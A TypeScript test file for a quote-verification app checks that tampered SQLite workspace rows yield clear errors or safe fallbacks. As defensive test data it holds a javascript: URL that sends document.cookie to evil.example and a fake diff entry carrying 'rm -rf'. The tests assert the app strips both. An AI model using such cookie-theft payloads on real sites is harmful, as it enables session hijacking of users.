// A workspace whose rows were edited behind the app's back (by hand, by another program, by a
// merged copy): the schema's CHECK constraints refuse what they can, and for the rest the API host
// answers every read with a clear error or a safe fallback, never a crash or a misleading text.
import Database from 'better-sqlite3'
import { copyFileSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { createApiHost, type ApiHost } from '../../../src/main/api/create-api-host'
import { REPORT_FORMATS, parseApiInput, type ApiHandlers, type ClaimDetail } from '../../../src/shared/api-contract'
import { WorkspaceError } from '../../../src/main/workspace/errors'
import { useTempDir } from '../../support/temp-dir'

const tempDir = useTempDir()

const WIRE = `Dockers reject “final” offer

VALMORA (Meridian Wire) — Striking dock workers on Tuesday rejected what Labour Minister Ana Mendez called a "fair and final" offer.

"We have gone as far as any responsible government can go," Mendez told reporters.

Union leader Piotr Kowal said the offer was "an insult to every family on the quayside."

Port authority chief Yuri Ushakov said cargo was "piling up by the hour on every berth of the harbour."`

const DRAFT = `Minister: we went as far as we could

Labour Minister Ana Mendez said the government had gone “as far as any responsible government can go”.

Piotr Kowal, the union leader, described it as “an insult to every family on the quayside”.

Harbour master Yuri Ushakov warned that cargo was “piling up by the hour on every berth”.`

/** A workspace made through the API: two articles, their matches, a verdict with evidence. */
let template: string
let templateDir: string
beforeAll(async () => {
  templateDir = mkdtempSync(join(tmpdir(), 'verbatim-tampered-'))
  template = join(templateDir, 'desk.verbatim')
  const api = createApiHost({ settingsPath: join(templateDir, 'settings.json') })
  const { handlers } = api
  await handlers.setReviewer({ name: 'Anna Kowalska' })
  await handlers.openWorkspace({ path: template, create: true })
  await handlers.importPaste(parseApiInput('importPaste', { text: WIRE, outlet: 'Meridian Wire', role: 'source', url: 'https://wire.example/dockers' }))
  await handlers.importPaste(parseApiInput('importPaste', { text: DRAFT, role: 'draft' }))
  const insult = (await handlers.listClaims({ search: 'an insult' })).find((claim) => claim.best)!
  const detail = await handlers.getClaim({ quoteId: insult.quote.id })
  const { article, quote, start, end, text } = detail.matches[0].source
  await handlers.giveVerdict({ quoteId: insult.quote.id, status: 'verified', note: 'Word for word.', evidence: { article, quote, start, end, text }, supersedes: [] })
  api.close()
})
afterAll(() => rmSync(templateDir, { recursive: true, force: true }))

const hosts: ApiHost[] = []
afterEach(() => hosts.splice(0).forEach((host) => host.close()))

/** A copy of the template workspace, changed by `sql` through a connection without foreign keys. */
function tampered(sql: string, ...params: unknown[]): string {
  const path = join(tempDir(), 'desk.verbatim')
  copyFileSync(template, path)
  const db = new Database(path)
  // As the sqlite3 shell and most editors have it: nothing cascades, nothing is checked across tables.
  db.pragma('foreign_keys = OFF')
  db.prepare(sql).run(...params)
  db.close()
  return path
}

async function openDesk(path: string): Promise<ApiHandlers> {
  const host = createApiHost({ settingsPath: join(dirname(path), 'settings.json') })
  hosts.push(host)
  await host.handlers.setReviewer({ name: 'Piotr Nowak' })
  await host.handlers.openWorkspace({ path })
  return host.handlers
}

const row = <T>(path: string, sql: string, ...params: unknown[]) => {
  const db = new Database(path, { readonly: true })
  const value = db.prepare(sql).get(...params) as T
  db.close()
  return value
}

/** Offsets and texts the renderer relies on: every span inside the text it points into. */
function expectSane(detail: ClaimDetail): void {
  const { context } = detail
  expect(0 <= context.start && context.start <= context.end && context.end <= context.text.length).toBe(true)
  for (const match of detail.matches) {
    expect(0 <= match.context.start && match.context.start <= match.context.end && match.context.end <= match.context.text.length).toBe(true)
    expect(match.context.text).toContain(match.source.text)
    for (const part of match.diff) expect(['equal', 'insert', 'delete']).toContain(part.op)
  }
}

/** Everything the desk reads, and every report: each must answer. */
async function readEverything(handlers: ApiHandlers): Promise<{ details: ClaimDetail[]; reports: Record<string, string> }> {
  for (const summary of await handlers.listArticles({})) await handlers.getArticle({ id: summary.id })
  const details: ClaimDetail[] = []
  for (const claim of await handlers.listClaims({})) {
    const detail = await handlers.getClaim({ quoteId: claim.quote.id })
    expectSane(detail)
    details.push(detail)
  }
  await handlers.listSpeakers({})
  await handlers.listAliasProposals({})
  const reports: Record<string, string> = {}
  for (const format of REPORT_FORMATS.filter((f) => f !== 'pdf')) reports[format] = (await handlers.exportReport({ format, includeHistory: true })).content
  return { details, reports }
}

describe('what the schema itself refuses', () => {
  const refusedBy = (sql: string, rule: RegExp) => expect(() => tampered(sql)).toThrow(rule)

  it('a quote starting before the text or ending before it starts', () => {
    refusedBy('UPDATE quotes SET start = -1', /CHECK constraint failed: start >= 0/)
    refusedBy('UPDATE quotes SET end = start - 1', /CHECK constraint failed: end >= start/)
  })

  it('a match score outside [0, 1], or not a number', () => {
    refusedBy('UPDATE matches SET score = 5', /CHECK constraint failed: score/)
    refusedBy('UPDATE matches SET score = -0.5', /CHECK constraint failed: score/)
    refusedBy("UPDATE matches SET score = 'high'", /cannot store TEXT value in REAL column matches.score/)
  })

  it('a verdict status, quote kind, role or relation the app does not know', () => {
    refusedBy("UPDATE verdicts SET status = 'approved'", /CHECK constraint failed: status IN/)
    refusedBy("UPDATE quotes SET kind = 'rumour'", /CHECK constraint failed: kind IN/)
    refusedBy("UPDATE articles SET role = 'admin'", /CHECK constraint failed: role IN/)
    refusedBy("UPDATE matches SET relation = 'same'", /CHECK constraint failed: relation IN/)
  })

  it('a speaker linked to itself', () => {
    refusedBy("INSERT INTO speaker_links (from_id, to_id, score, reason, status) SELECT id, id, 1, 'x', 'confirmed' FROM speakers LIMIT 1", /CHECK constraint failed: from_id <> to_id/)
  })
})

describe('tampered rows, read through the API host', () => {
  it('an untouched copy reads in full (the baseline for the cases below)', async () => {
    const { details, reports } = await readEverything(await openDesk(tampered('SELECT 1')))
    expect(details.some((d) => d.matches.length > 0 && d.current?.status === 'verified')).toBe(true)
    expect(reports.csv).toContain('an insult')
  })

  it('a quote whose offsets point far past its text: shown with an empty span, not garbage', async () => {
    const path = tampered("UPDATE quotes SET start = 100000, end = 200000 WHERE text LIKE 'an insult%' AND article_id IN (SELECT id FROM articles WHERE role = 'draft')")
    const handlers = await openDesk(path)
    const { details } = await readEverything(handlers)
    const moved = details.find((d) => d.quote.start === 100000)!
    expect(moved.context.start).toBe(moved.context.end)
    expect(moved.context.text.slice(moved.context.start, moved.context.end)).toBe('')
  })

  it('a match whose offsets are negative or huge: its source text is never another passage', async () => {
    const path = tampered('UPDATE matches SET start = -40, end = 1000000000')
    const { details } = await readEverything(await openDesk(path))
    const matches = details.flatMap((d) => d.matches)
    expect(matches.length).toBeGreaterThan(0)
    for (const match of matches) {
      // slice(-40) would have shown the article's last 40 characters as the evidence.
      expect(match.source.text).toBe(row<{ text: string }>(path, 'SELECT text FROM articles WHERE id = ?', match.source.article).text)
    }
  })

  it('a stored diff that is not JSON, or not a diff: said to be damaged', async () => {
    for (const diff of ['{not json', 'null', '[{"op":"exec","text":"rm -rf"}]', '[{"op":"equal"}]', '{"tooLarge": 7}']) {
      const { details } = await readEverything(await openDesk(tampered('UPDATE matches SET diff = ?', diff)))
      const matches = details.flatMap((d) => d.matches)
      expect(matches.length).toBeGreaterThan(0)
      for (const match of matches) {
        expect(match.diff).toEqual([])
        expect(match.diffTooLarge).toMatch(/stored comparison is damaged/)
      }
    }
  })

  it('verdict evidence that is not JSON, or not evidence: the verdict stands without it', async () => {
    for (const evidence of ['{"article": 1', '{"article": "a1", "start": -3, "end": 2, "text": "x", "quote": null}', '"a string"', '[]']) {
      const { details } = await readEverything(await openDesk(tampered('UPDATE verdicts SET evidence = ?', evidence)))
      const judged = details.find((d) => d.current)!
      expect(judged.current).toMatchObject({ status: 'verified', note: 'Word for word.', evidence: null })
    }
  })

  it('a link that is not http(s) is never handed to the page', async () => {
    const path = tampered("UPDATE articles SET url = 'javascript:fetch(`//evil.example/`+document.cookie)'")
    const handlers = await openDesk(path)
    for (const article of await handlers.listArticles({})) expect(article.url).toBeNull()
    const { details, reports } = await readEverything(handlers)
    for (const match of details.flatMap((d) => d.matches)) expect(match.sourceArticle.url).toBeNull()
    for (const report of Object.values(reports)) expect(report).not.toContain('javascript:')
  })

  it('a quote whose article is gone: not listed, and asked for by id, a clear error', async () => {
    const path = tampered("DELETE FROM articles WHERE role = 'draft'")
    const orphan = row<{ id: string }>(path, 'SELECT q.id FROM quotes q LEFT JOIN articles a ON a.id = q.article_id WHERE a.id IS NULL LIMIT 1').id
    const handlers = await openDesk(path)
    const { details } = await readEverything(handlers)
    expect(details.map((d) => d.quote.id)).not.toContain(orphan)
    const refusal = await Promise.resolve()
      .then(() => handlers.getClaim({ quoteId: orphan }))
      .catch((error: unknown) => error)
    expect(refusal).toBeInstanceOf(WorkspaceError)
    expect(refusal).toMatchObject({ code: 'corrupt', message: expect.stringMatching(/is damaged: quote q\w+ belongs to no article/) })
  })

  it('a match whose source article is gone is left out', async () => {
    const path = tampered("DELETE FROM articles WHERE role = 'source'")
    const { details } = await readEverything(await openDesk(path))
    expect(details.flatMap((d) => d.matches)).toEqual([])
  })

  it('verdicts that supersede each other in a circle still resolve', async () => {
    const path = tampered(
      `INSERT INTO verdicts (id, quote_id, status, note, evidence, reviewer, created_at)
       SELECT 'v-loop-' || n, quote_id, 'disputed', 'loop ' || n, NULL, 'Mallory', '2031-01-0' || n FROM verdicts, (SELECT 1 AS n UNION SELECT 2)`,
    )
    const db = new Database(path)
    db.pragma('foreign_keys = OFF')
    db.exec("INSERT INTO verdict_supersedes VALUES ('v-loop-1', 'v-loop-2'), ('v-loop-2', 'v-loop-1')")
    db.close()
    const { details } = await readEverything(await openDesk(path))
    const looped = details.find((d) => d.history.some((v) => v.id === 'v-loop-1'))!
    expect(looped.history).toHaveLength(3)
  })
})

describe('speakers linked in a circle', () => {
  it('confirmed one pair at a time through the API, resolve to one speaker instead of vanishing', async () => {
    const path = join(tempDir(), 'desk.verbatim')
    copyFileSync(template, path)
    const handlers = await openDesk(path)
    const speakers = await handlers.listSpeakers({})
    const id = (name: string) => speakers.find((s) => s.name === name)!.id
    const [mendez, kowal, ushakov] = [id('Ana Mendez'), id('Piotr Kowal'), id('Yuri Ushakov')]
    // Each decision drops only its own reverse link, so three decisions can close a circle.
    await handlers.decideAlias({ from: mendez, to: kowal, decision: 'confirm' })
    await handlers.decideAlias({ from: kowal, to: ushakov, decision: 'confirm' })
    await handlers.decideAlias({ from: ushakov, to: mendez, decision: 'confirm' })

    const listed = await handlers.listSpeakers({})
    const circle = listed.filter((s) => [mendez, kowal, ushakov].includes(s.id) || s.aliases.some((a) => [mendez, kowal, ushakov].includes(a.id)))
    expect(circle).toHaveLength(1)
    expect(circle[0].aliases).toHaveLength(2)
    const names = new Set((await handlers.listClaims({})).filter((c) => c.quote.speakerId && [mendez, kowal, ushakov].includes(c.quote.speakerId)).map((c) => c.quote.speaker))
    expect(names).toEqual(new Set([circle[0].name]))
    await readEverything(handlers)
  })

  it('two speakers confirmed as each other (only a tampered file can say so) resolve to one', async () => {
    const path = tampered(
      `INSERT INTO speaker_links (from_id, to_id, score, reason, status)
       SELECT a.id, b.id, 1, 'edited', 'confirmed' FROM speakers a, speakers b
       WHERE a.name IN ('Ana Mendez', 'Piotr Kowal') AND b.name IN ('Ana Mendez', 'Piotr Kowal') AND a.id <> b.id`,
    )
    const handlers = await openDesk(path)
    const listed = await handlers.listSpeakers({})
    const pair = listed.filter((s) => ['Ana Mendez', 'Piotr Kowal'].includes(s.name) || s.aliases.some((a) => ['Ana Mendez', 'Piotr Kowal'].includes(a.name)))
    expect(pair).toHaveLength(1)
    await readEverything(handlers)
  })
})
